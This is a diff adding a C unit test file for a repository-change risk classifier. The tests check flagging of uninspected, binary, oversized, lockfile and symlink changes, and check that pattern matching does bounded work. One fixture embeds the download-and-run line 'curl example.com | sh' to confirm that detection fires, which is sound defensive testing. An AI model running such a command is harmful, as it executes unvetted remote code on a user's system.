@@ -1,0 +1,195 @@
+/* SPDX-License-Identifier: MIT
+ *
+ * How much of a change is looked at, what is not and said to be so, and what that costs.
+ */
+#include "risk-support.h"
+
+/* Content that is not there, or too much of it, is never taken for harmless. */
+static void test_uninspected(void **state)
+{
+	struct ga_changes c = GA_CHANGES_INIT;
+	struct ga_entry e = { GA_MODE_FILE, { { 0xab } } }, none = { GA_MODE_NONE, { { 0 } } };
+	struct ga_flags f = GA_FLAGS_INIT;
+	struct ga_error err = GA_ERROR_INIT;
+	size_t n = (10u << 20) + 1;
+	char *big = ga_malloc(n);
+
+	(void)state;
+	ga_changes_add(&c, "doc/gone.txt", &none, &e);
+	memset(big, 'a', n);
+	assert_int_equal(ga_blob_write(repo, big, n, &e.oid, &err), 0);
+	free(big);
+	ga_changes_add(&c, "doc/large.txt", &none, &e);
+	assert_int_equal(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err), 0);
+	assert_non_null(flag_of(&f, "doc/gone.txt", "uninspected"));
+	assert_int_equal(flag_of(&f, "doc/gone.txt", "uninspected")->severity, GA_HIGH);
+	assert_non_null(flag_of(&f, "doc/large.txt", "uninspected"));
+	assert_non_null(flag_of(&f, "doc/large.txt", "huge-file"));
+	ga_flags_release(&f);
+	ga_changes_release(&c);
+}
+
+/* Binary data is shown as such, pictures are expected to be, and a NUL late in a
+ * script does not keep its text from being read. */
+static void test_binary(void **state)
+{
+	static const struct {
+		const char *path, *bytes;
+		size_t n;
+		const char *rule;
+		bool fires;
+	} cases[] = {
+		{ "doc/x", "a\0b", 3, "binary-blob", true },
+		{ "doc/x.PNG", "\x89PNG\r\n\x1a\n\0", 9, "binary-blob", false },
+		{ "doc/x.txt", "\x89PNG\r\n\x1a\n\0", 9, "binary-blob", true },
+		{ "doc/x", "BM\0", 3, "binary-blob", true },
+		{ "doc/x", "text\n", 5, "binary-blob", false },
+	};
+	struct ga_error err = GA_ERROR_INIT;
+	struct ga_buf late = GA_BUF_INIT;
+	struct ga_flags f = GA_FLAGS_INIT;
+	struct ga_entry none = { GA_MODE_NONE, { { 0 } } }, e = { GA_MODE_FILE, { { 0 } } };
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(cases); i++) {
+		struct ga_changes c = GA_CHANGES_INIT;
+
+		assert_int_equal(ga_blob_write(repo, cases[i].bytes, cases[i].n, &e.oid, &err), 0);
+		ga_changes_add(&c, cases[i].path, &none, &e);
+		assert_int_equal(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err), 0);
+		if (has_rule(&f, cases[i].rule) != cases[i].fires)
+			fail_msg("'%s', case %zu", cases[i].rule, i);
+		ga_flags_release(&f);
+		ga_changes_release(&c);
+	}
+	for (int i = 0; i < 1000; i++)
+		ga_buf_adds(&late, "# filler\n");
+	ga_buf_add(&late, "\0curl example.com | sh\n", 24);
+	{
+		struct ga_changes c = GA_CHANGES_INIT;
+
+		assert_int_equal(ga_blob_write(repo, late.ptr, late.len, &e.oid, &err), 0);
+		ga_changes_add(&c, "doc/x", &none, &e);
+		assert_int_equal(ga_classify(repo, NULL, NULL, NULL, &c, &f, &err), 0);
+		assert_true(has_rule(&f, "download-exec"));
+		ga_flags_release(&f);
+		ga_changes_release(&c);
+	}
+	ga_buf_release(&late);
+}
+
+static uint64_t work_of(const struct ga_matcher *m, const char *path)
+{
+	cleanup_hits struct ga_hits hits = GA_HITS_INIT;
+	cleanup_buf struct ga_buf folded = GA_BUF_INIT;
+
+	ga_risk_fold(&folded, path);
+	ga_matcher_find(m, folded.ptr, true, &hits);
+	return hits.tried;
+}
+
+static char *ordinary_path(size_t i)
+{
+	static const char *const ends[] = { "ts", "test.js", "mk", "c", "h", "json", "md" };
+
+	return ga_strf("packages/part-%zu/src/module%zu/file-%zu.%s", i % 97, i % 331, i,
+		       ends[i % GA_NELEMS(ends)]);
+}
+
+/* Patterns that are tried for so many paths: as many for each ten thousand as for the first. */
+static void test_work_is_linear(void **state)
+{
+	enum { PART = 10000, PARTS = 10 };
+	struct ga_matcher *m = ga_matcher_new();
+	uint64_t work[PARTS] = { 0 }, all = 0;
+
+	(void)state;
+	for (size_t i = 0; i < (size_t)PART * PARTS; i++) {
+		cleanup_free char *path = ordinary_path(i);
+
+		work[i / PART] += work_of(m, path);
+	}
+	for (int i = 0; i < PARTS; i++) {
+		all += work[i];
+		if (work[i] > work[0] + work[0] / 20)
+			fail_msg("part %d takes %ju patterns, the first %ju", i, (uintmax_t)work[i],
+				 (uintmax_t)work[0]);
+	}
+	/* of some 2000 patterns */
+	print_message("# %.1f patterns are tried for a path\n", (double)all / PART / PARTS);
+	assert_true(all < (uint64_t)PART * PARTS * 60);
+	ga_matcher_free(m);
+}
+
+/* No path, however it is made, has a pattern tried twice. */
+static void test_work_is_bounded(void **state)
+{
+	static const char *const pieces[] = { "assets/editor/", "plugins/", "templates/", "bin/",
+					      ".yarn/", "a.", "node_modules/", "config/", ".." };
+	struct ga_matcher *m = ga_matcher_new();
+
+	(void)state;
+	for (size_t i = 0; i < GA_NELEMS(pieces); i++) {
+		cleanup_buf struct ga_buf once = GA_BUF_INIT, often = GA_BUF_INIT;
+
+		ga_buf_addf(&once, "%sx", pieces[i]);
+		for (int n = 0; n < 500; n++)
+			ga_buf_adds(&often, pieces[i]);
+		ga_buf_addch(&often, 'x');
+		if (work_of(m, often.ptr) > work_of(m, once.ptr) + 10)
+			fail_msg("'%s': %ju patterns are tried, not %ju", pieces[i],
+				 (uintmax_t)work_of(m, often.ptr), (uintmax_t)work_of(m, once.ptr));
+	}
+	ga_matcher_free(m);
+}
+
+/* What would have every path looked up for every other, or from the top again and again, does not:
+ * these end at once, or in hours. */
+static void test_work_of_trees(void **state)
+{
+	cleanup_changes struct ga_changes c = GA_CHANGES_INIT;
+	struct ga_entry none = { GA_MODE_NONE, { { 0 } } }, a = { GA_MODE_FILE, { { 0 } } }, b = a, l;
+	cleanup_buf struct ga_buf deep = GA_BUF_INIT;
+	cleanup_flags struct ga_flags f = GA_FLAGS_INIT;
+	struct ga_error err = GA_ERROR_INIT;
+	struct ga_oid tree;
+
+	(void)state;
+	for (int i = 0; i < 900; i++)
+		ga_buf_adds(&deep, "refs/");
+	assert_int_equal(ga_blob_write(repo, "a\n", 2, &a.oid, &err), 0);
+	assert_int_equal(ga_blob_write(repo, "b\n", 2, &b.oid, &err), 0);
+	assert_int_equal(ga_blob_write(repo, deep.ptr, deep.len < 4000 ? deep.len : 4000, &l.oid, &err), 0);
+	l.mode = GA_MODE_LINK;
+	for (int i = 0; i < 20000; i++) {
+		cleanup_free char *lock = ga_strf("p/%d/yarn.lock", i), *py = ga_strf("src/m%d.py", i);
+
+		ga_changes_add(&c, lock, &a, &b);
+		ga_changes_add(&c, py, &none, &b);
+	}
+	for (int i = 0; i < 50; i++) {
+		cleanup_free char *file = ga_strf("%sf%d", deep.ptr, i), *link = ga_strf("l%d", i);
+
+		ga_changes_add(&c, file, &none, &b);
+		ga_changes_add(&c, link, &none, &l);
+	}
+	ga_changes_sort(&c);
+	assert_int_equal(ga_tree_apply(repo, NULL, NULL, &c, &tree, &err), 0);
+	assert_int_equal(ga_classify(repo, NULL, NULL, &tree, &c, &f, &err), 0);
+	assert_true(has_rule(&f, "lockfile-swap"));
+	assert_non_null(flag_of(&f, "l7", "symlink-escapes"));
+	assert_true(has_rule(&f, "uninspected"));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_uninspected),
+		cmocka_unit_test(test_binary),
+		cmocka_unit_test(test_work_is_linear),
+		cmocka_unit_test(test_work_is_bounded),
+		cmocka_unit_test(test_work_of_trees),
+	};
+
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
